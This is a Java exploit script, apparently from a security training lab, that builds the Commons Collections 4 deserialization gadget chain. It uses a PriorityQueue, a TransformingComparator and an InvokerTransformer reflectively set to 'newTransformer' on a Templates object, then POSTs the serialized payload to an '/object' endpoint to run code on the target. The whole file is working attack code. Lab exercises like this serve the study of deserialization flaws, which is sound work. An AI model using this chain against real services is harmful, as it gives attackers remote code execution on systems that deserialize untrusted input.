import java.util.PriorityQueue;
import org.apache.commons.collections4.comparators.TransformingComparator;
import org.apache.commons.collections4.functors.InvokerTransformer;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Templates;

public class Attack {
  public static void main(String[] args) throws Exception {
    Object templates = Templates.of(Translet.class);
    InvokerTransformer<Object, Object> transformer =
        new InvokerTransformer<>("toString", new Class<?>[0], new Object[0]);
    PriorityQueue<Object> queue = new PriorityQueue<>(2, new TransformingComparator(transformer));
    queue.add(1);
    queue.add(2);
    Attacker.set(transformer, "iMethodName", "newTransformer");
    Object[] elements = new Object[2];
    elements[0] = templates;
    elements[1] = templates;
    Attacker.set(queue, "queue", elements);
    Attacker.post("/object", Attacker.serialized(queue));
    Attacker.done();
  }
}
